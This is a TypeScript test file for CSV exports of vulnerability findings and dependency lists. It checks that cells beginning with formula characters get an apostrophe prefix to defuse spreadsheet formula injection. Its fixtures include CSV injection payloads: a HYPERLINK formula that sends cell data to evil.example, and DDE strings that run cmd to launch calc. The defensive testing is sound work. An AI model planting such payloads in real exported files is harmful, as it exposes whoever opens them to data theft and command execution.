import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { DEPENDENCY_CSV_COLUMNS } from '../../../../../shared/src/dependency-list-exports.ts';
import { VULNERABILITY_CSV_COLUMNS } from '../../../../../shared/src/vulnerability-exports.ts';
import { dependencyCsv, vulnerabilityCsv } from './csv.ts';
import { parseCsv } from './csv-read.ts';
import type { Content } from './files.ts';
import type { DependencyExportRow, VulnerabilityExportRow } from './rows.ts';

/** The text a writer produces, read back as rows. */
async function rowsOf(content: Content): Promise<string[][]> {
  let text = '';
  await pipeline([content.source, ...(content.through ?? []), new Writable({ write: (chunk: Buffer, _e, done) => ((text += chunk.toString('utf8')), done()) })]);
  return parseCsv(text);
}

async function* one<T>(row: T) {
  yield [row];
}

const finding = (extra: Partial<VulnerabilityExportRow>): VulnerabilityExportRow => ({
  id: 1,
  group_name: 'Acme',
  project_name: 'Website',
  full_path: 'acme/website',
  tool: 'sast',
  scanner_name: 'Semgrep',
  status: 'detected',
  title: 'Finding',
  description: 'Details',
  additional_info: '',
  severity: 'high',
  identifiers: [{ type: 'cwe', name: 'CWE-79' }],
  detected_at: '2026-11-20T08:09:10.123Z',
  location: 'src/app.js:10',
  activity: '',
  comments: '',
  cvss_vectors: '',
  dismissal_reason: '',
  ...extra,
});

const component = (extra: Partial<DependencyExportRow>): DependencyExportRow => ({
  id: 1,
  name: 'left-pad',
  version: '1.3.0',
  packager: 'npm',
  location: 'package-lock.json',
  purl: 'pkg:npm/left-pad@1.3.0',
  component_type: 'library',
  licenses: [],
  project_full_path: 'acme/website',
  ...extra,
});

/**
 * Cells a spreadsheet would run as a formula: each starting character the platform's CSV builder
 * checks (`=`, `+`, `-`, `@`, `;`) and the two OWASP adds (tab, carriage return).
 */
const FORMULAS: [string, string][] = [
  ['=', '=HYPERLINK("https://evil.example/?d="&A1,"Click")'],
  ['+', "+cmd|' /C calc'!A0"],
  ['-', '-2+3+cmd|\' /C calc\'!A0'],
  ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  [';', ';=1+1'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
];

const col = (rows: string[][], columns: readonly string[], name: string) => rows[1][columns.indexOf(name)];

describe('CSV cells that would start a formula', () => {
  for (const [what, value] of FORMULAS) {
    it(`prefixes a cell starting with ${what} with a ' in the vulnerability CSV (title, details, location)`, async () => {
      const rows = await rowsOf(vulnerabilityCsv(one(finding({ title: value, description: value, location: value }))));
      for (const name of ['Vulnerability', 'Details', 'Location']) assert.equal(col(rows, VULNERABILITY_CSV_COLUMNS, name), `'${value}`, name);
      assert.equal(col(rows, VULNERABILITY_CSV_COLUMNS, 'Scanner Name'), 'Semgrep', 'other cells are kept');
    });
    it(`prefixes a cell starting with ${what} with a ' in the dependency CSV (component name)`, async () => {
      const rows = await rowsOf(dependencyCsv(one(component({ name: value }))));
      assert.equal(col(rows, DEPENDENCY_CSV_COLUMNS, 'Name'), `'${value}`);
      assert.equal(col(rows, DEPENDENCY_CSV_COLUMNS, 'Version'), '1.3.0');
    });
  }

  it('keeps cells that only hold such characters later on, and the header as it is', async () => {
    const safe = ['a=b', 'x + y', "it's", ' =1+1', 'CVE-2024-0001', ''];
    for (const value of safe) {
      const rows = await rowsOf(vulnerabilityCsv(one(finding({ title: value }))));
      assert.deepEqual(rows[0], [...VULNERABILITY_CSV_COLUMNS]);
      assert.equal(col(rows, VULNERABILITY_CSV_COLUMNS, 'Vulnerability'), value);
    }
  });
});
